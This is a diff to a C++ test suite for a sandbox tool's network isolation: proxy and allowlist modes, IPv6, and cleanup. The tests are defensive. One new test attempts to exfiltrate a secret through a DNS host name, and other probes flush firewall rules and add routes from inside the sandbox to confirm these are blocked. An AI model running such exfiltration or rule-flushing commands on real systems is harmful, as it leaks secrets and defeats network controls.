@@ -22,6 +22,7 @@
 
 #include "helpers/cli_fixture.h"
 #include "helpers/cli_runner.h"
+#include "helpers/local_server.h"
 #include "helpers/private_network.h"
 #include "helpers/test_support.h"
 
@@ -87,8 +88,8 @@ class TcpServer {
       std::string request(buffer, n > 0 ? static_cast<std::size_t>(n) : 0);
       const std::string first_line = request.substr(0, request.find("\r\n"));
       const std::string body = "hello from " + name_ + " [" + first_line + "]";
-      const std::string response = "HTTP/1.0 200 OK\r\nContent-Length: " +
-                                   std::to_string(body.size()) + "\r\n\r\n" + body;
+      const std::string response =
+          "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
       (void)!::send(client, response.data(), response.size(), MSG_NOSIGNAL);
       ::close(client);
     }
@@ -153,9 +154,9 @@ class NetworkTest : public testing::CliFixture {
     for (const std::string address : {"169.254.10.1/32", "169.254.10.2/32", "169.254.10.3/32"})
       ASSERT_EQ(testing::ip_command("addr add " + address + " dev lo"), 0);
     ASSERT_EQ(testing::ip_command("addr add fd00:10::1/128 dev lo nodad"), 0);
-    const std::string hosts = std::string("127.0.0.1 localhost\n") + kApi +
-                              " api.example.test\n" + kEvil + " evil.example.test\n" + kIndex +
-                              " index.example.test\n" + kApi6 + " v6.example.test\n";
+    const std::string hosts = std::string("127.0.0.1 localhost\n") + kApi + " api.example.test\n" +
+                              kEvil + " evil.example.test\n" + kIndex + " index.example.test\n" +
+                              kApi6 + " v6.example.test\n";
     ASSERT_EQ(testing::override_hosts_file(hosts), "");
   }
 
@@ -167,8 +168,9 @@ class NetworkTest : public testing::CliFixture {
 
   testing::CliRun run(const std::vector<std::string>& flags, const std::vector<std::string>& probes,
                       const std::vector<std::string>& extra_env = {}) {
-    std::vector<std::string> args = {"run", "--allow-weaker", "limits", "--changes", "discard",
-                                     "-w", workspace_.path().string()};
+    std::vector<std::string> args = {
+        "run", "--allow-weaker",          "limits", "--changes", "discard",
+        "-w",  workspace_.path().string()};
     args.insert(args.end(), flags.begin(), flags.end());
     args.insert(args.end(), {"--", "python3", "/workspace/probe.py"});
     args.insert(args.end(), probes.begin(), probes.end());
@@ -202,10 +204,9 @@ class NetworkTest : public testing::CliFixture {
 
 TEST_F(NetworkTest, ProxyLetsAllowedNamesThroughAndRefusesOthersAudited) {
   TcpServer api(kApi, "api"), evil(kEvil, "evil");
-  const auto result =
-      run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
-          {"http,allowed," + url("api.example.test", api.port()),
-           "http,other," + url("evil.example.test", evil.port())});
+  const auto result = run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
+                          {"http,allowed," + url("api.example.test", api.port()),
+                           "http,other," + url("evil.example.test", evil.port())});
   ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
   EXPECT_NE(line_of(result.out, "allowed").find("ok hello from api [GET /via-proxy HTTP/1.1]"),
             std::string::npos)
@@ -246,11 +247,10 @@ TEST_F(NetworkTest, ProxyRefusesANameResolvingToAPrivateAddressNotListed) {
 
 TEST_F(NetworkTest, ProxyIsTheOnlyWayOutWhateverTheCommandDoesWithTheVariables) {
   TcpServer api(kApi, "api");
-  const auto result =
-      run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
-          {"tcp,direct," + std::string(kApi) + "," + std::to_string(api.port()),
-           "tcp,direct6," + std::string(kApi6) + "," + std::to_string(api.port())},
-          {});
+  const auto result = run({"--net", "proxy", "--allow-domain", "api.example.test", "--allow", kApi},
+                          {"tcp,direct," + std::string(kApi) + "," + std::to_string(api.port()),
+                           "tcp,direct6," + std::string(kApi6) + "," + std::to_string(api.port())},
+                          {});
   ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
   EXPECT_NE(result.out.find("direct refused"), std::string::npos) << result.out;
   EXPECT_NE(result.out.find("direct6 refused"), std::string::npos) << result.out;
@@ -274,9 +274,9 @@ TEST_F(NetworkTest, ProxyTunnelsConnectAndReachesIpv6) {
       "print('body', s.recv(4096).decode().split('\\r\\n\\r\\n')[-1])\n";
   std::ofstream(workspace_.path() / "tunnel.py") << script;
   const auto result = testing::run_cli(
-      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w",
-       workspace_.path().string(), "--net", "proxy", "--allow-domain", "v6.example.test", "--allow",
-       kApi6, "--", "python3", "/workspace/tunnel.py"},
+      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
+       "--net", "proxy", "--allow-domain", "v6.example.test", "--allow", kApi6, "--", "python3",
+       "/workspace/tunnel.py"},
       "", cli_env());
   ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
   EXPECT_NE(result.out.find("status 200"), std::string::npos) << result.out;
@@ -334,9 +334,26 @@ TEST_F(NetworkTest, PipInstallsFromAnIndexThroughTheProxy) {
     ::usleep(100000);
   }
   const auto result = testing::run_cli(
-      {"run", "--allow-weaker", "limits", "--timeout", "120", "--memory", "1G",
-       "--changes", "discard", "-w", workspace_.path().string(), "--net", "proxy",
-       "--allow-domain", "index.example.test", "--allow", kIndex, "--", "sh", "-c",
+      {"run",
+       "--allow-weaker",
+       "limits",
+       "--timeout",
+       "120",
+       "--memory",
+       "1G",
+       "--changes",
+       "discard",
+       "-w",
+       workspace_.path().string(),
+       "--net",
+       "proxy",
+       "--allow-domain",
+       "index.example.test",
+       "--allow",
+       kIndex,
+       "--",
+       "sh",
+       "-c",
        "PIP_BREAK_SYSTEM_PACKAGES=1 python3 -m pip install --no-cache-dir --disable-pip-version-"
        "check --target /tmp/t --trusted-host index.example.test --index-url "
        "http://index.example.test:18080/simple pbdemo && "
@@ -346,14 +363,63 @@ TEST_F(NetworkTest, PipInstallsFromAnIndexThroughTheProxy) {
   EXPECT_NE(result.out.find("imported 42"), std::string::npos) << result.out;
 }
 
+// A host name that carries a registered secret out is not a channel: the
+// audit log and the result hold it redacted.
+TEST_F(NetworkTest, ProxyRecordsHoldNoSecret) {
+  const std::string secret = "s3cretlabel4711";
+  // The command line names the variable only: the value is the sandbox's.
+  auto env = cli_env();
+  env.push_back("PB_NET_TOKEN=" + secret);
+  const auto result = testing::run_cli(
+      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
+       "--net", "proxy", "--allow-domain", "api.example.test", "--secret", "PB_NET_TOKEN", "--json",
+       "--", "sh", "-c",
+       "python3 /workspace/probe.py \"http,leak,http://${PB_NET_TOKEN}.example.test:9/\""},
+      "", env);
+  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
+  EXPECT_NE(result.out.find("leak http 403"), std::string::npos) << result.out;
+  EXPECT_EQ(result.out.find(secret), std::string::npos) << result.out;
+  EXPECT_EQ(result.err.find(secret), std::string::npos) << result.err;
+  const std::string log = testing::read_file(workspace_.path() / ".agent" / "logs" / "audit.jsonl");
+  EXPECT_EQ(log.find(secret), std::string::npos);
+  bool recorded = false;
+  for (const auto& record : network_records())
+    recorded = recorded || record["decision"] == "deny";
+  EXPECT_TRUE(recorded) << "the refusal is recorded, redacted";
+}
+
+// Through `pulsebox serve --local`: the server's sandbox started ahead has
+// the proxy's listener, and the server runs the proxy.
+TEST_F(NetworkTest, ProxyWorksThroughTheServer) {
+  TcpServer api(kApi, "api");
+  testing::LocalServer server;
+  auto env = cli_env(/*served=*/true);
+  ASSERT_EQ(server.start(binary_, env, state_.path() / "server.sock", scratch_.path() / "log"), "");
+  const std::vector<std::string> flags = {"--net",   "proxy", "--allow-domain", "api.example.test",
+                                          "--allow", kApi};
+  for (int round = 0; round < 2; ++round) {  // the second from a sandbox started ahead
+    std::vector<std::string> args = {
+        "run", "--allow-weaker",          "limits", "--changes", "discard",
+        "-w",  workspace_.path().string()};
+    args.insert(args.end(), flags.begin(), flags.end());
+    args.insert(args.end(), {"--", "python3", "/workspace/probe.py",
+                             "http,served," + url("api.example.test", api.port())});
+    const auto result = testing::run_cli(args, "", env);
+    ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
+    EXPECT_NE(result.out.find("served ok hello from api"), std::string::npos) << result.out;
+  }
+  const std::string log = testing::read_file(scratch_.path() / "log");
+  EXPECT_NE(log.find("pulsebox serve: run in"), std::string::npos) << "served: " << log;
+}
+
 TEST_F(NetworkTest, AllowlistNeedsRootAndSaysSo) {
   if (::geteuid() == 0) GTEST_SKIP() << "as root the allowlist works (the tests below)";
   const auto caps = testing::run_cli({"capabilities"}, "", cli_env());
   EXPECT_NE(caps.out.find("network.allowlist"), std::string::npos) << caps.out;
   TcpServer api(kApi, "api");
-  const auto result = run({"--net", "allowlist", "--allow", std::string(kApi) + ":" +
-                                                                std::to_string(api.port())},
-                          {"tcp,allowed," + std::string(kApi) + "," + std::to_string(api.port())});
+  const auto result =
+      run({"--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(api.port())},
+          {"tcp,allowed," + std::string(kApi) + "," + std::to_string(api.port())});
   EXPECT_NE(result.exit_code, 0) << "refused, never run with less";
   EXPECT_NE(result.err.find("network"), std::string::npos) << result.err;
   EXPECT_EQ(api.connections(), 0);
@@ -372,14 +438,13 @@ class RootNetworkTest : public NetworkTest {
 TEST_F(RootNetworkTest, AllowlistPassesOnlyTheListedDestinationsPortsAndProtocols) {
   TcpServer api(kApi, "api"), other_port(kApi, "other-port"), evil(kEvil, "evil"),
       api6(kApi6, "api6");
-  const auto result =
-      run({"--net", "allowlist", "--allow", "api.example.test:" + std::to_string(api.port()),
-           "--allow", kApi, "--allow", "[" + std::string(kApi6) + "]:" + std::to_string(api6.port()) +
-                                           "/tcp"},
-          {"tcp,allowed,api.example.test," + std::to_string(api.port()),
-           "tcp,otherport," + std::string(kApi) + "," + std::to_string(other_port.port()),
-           "tcp,otherhost," + std::string(kEvil) + "," + std::to_string(evil.port()),
-           "tcp,v6," + std::string(kApi6) + "," + std::to_string(api6.port())});
+  const auto result = run(
+      {"--net", "allowlist", "--allow", "api.example.test:" + std::to_string(api.port()), "--allow",
+       kApi, "--allow", "[" + std::string(kApi6) + "]:" + std::to_string(api6.port()) + "/tcp"},
+      {"tcp,allowed,api.example.test," + std::to_string(api.port()),
+       "tcp,otherport," + std::string(kApi) + "," + std::to_string(other_port.port()),
+       "tcp,otherhost," + std::string(kEvil) + "," + std::to_string(evil.port()),
+       "tcp,v6," + std::string(kApi6) + "," + std::to_string(api6.port())});
   ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
   EXPECT_NE(line_of(result.out, "allowed").find("ok hello from api"), std::string::npos)
       << result.out;
@@ -431,15 +496,15 @@ TEST_F(RootNetworkTest, AllowlistRefusesTheSameHostOnAnotherPortAndUdpByTheRules
     char buffer[100];
     sockaddr_storage from{};
     socklen_t from_length = sizeof from;
-    const ssize_t n =
-        ::recvfrom(echo, buffer, sizeof buffer, 0, reinterpret_cast<sockaddr*>(&from), &from_length);
+    const ssize_t n = ::recvfrom(echo, buffer, sizeof buffer, 0, reinterpret_cast<sockaddr*>(&from),
+                                 &from_length);
     if (n > 0) ::sendto(echo, "pong", 4, 0, reinterpret_cast<sockaddr*>(&from), from_length);
   });
   const auto udp = testing::run_cli(
-      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w",
-       workspace_.path().string(), "--net", "allowlist", "--allow",
-       std::string(kApi) + ":" + std::to_string(udp_port) + "/udp", "--", "python3",
-       "/workspace/udp.py", std::to_string(udp_port), std::to_string(udp_port + 1)},
+      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
+       "--net", "allowlist", "--allow", std::string(kApi) + ":" + std::to_string(udp_port) + "/udp",
+       "--", "python3", "/workspace/udp.py", std::to_string(udp_port),
+       std::to_string(udp_port + 1)},
       "", cli_env());
   echoer.join();
   ::close(echo);
@@ -471,8 +536,8 @@ TEST_F(RootNetworkTest, AllowlistRefusesANameThatResolvesToAPrivateAddressUnless
 TEST_F(RootNetworkTest, TheCommandCannotChangeRoutesAddressesOrRules) {
   TcpServer evil(kEvil, "evil");
   const auto result = testing::run_cli(
-      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w",
-       workspace_.path().string(), "--net", "allowlist", "--allow", kApi, "--", "sh", "-c",
+      {"run", "--allow-weaker", "limits", "--changes", "discard", "-w", workspace_.path().string(),
+       "--net", "allowlist", "--allow", kApi, "--", "sh", "-c",
        "ip addr add 169.254.10.9/32 dev eth0; echo addr=$?; "
        "ip route add 169.254.10.2/32 dev eth0; echo route=$?; "
        "nft flush ruleset; echo nft=$?; "
@@ -505,10 +570,19 @@ TEST_F(RootNetworkTest, NothingIsLeftAfterARunAKilledSupervisorAndReconcile) {
   // A supervisor killed with SIGKILL mid-run: its sandbox dies with it
   // (PR_SET_PDEATHSIG), the veth with the namespace; the NAT table is left
   // for reconcile.
-  const auto args =
-      std::vector<std::string>{binary_, "run",   "--allow-weaker", "limits", "--changes",
-                               "discard", "-w", workspace_.path().string(), "--net", "all",
-                               "--", "sleep", "30"};
+  const auto args = std::vector<std::string>{binary_,
+                                             "run",
+                                             "--allow-weaker",
+                                             "limits",
+                                             "--changes",
+                                             "discard",
+                                             "-w",
+                                             workspace_.path().string(),
+                                             "--net",
+                                             "all",
+                                             "--",
+                                             "sleep",
+                                             "30"};
   const pid_t supervisor = ::fork();
   if (supervisor == 0) {
     for (const auto& entry : cli_env())
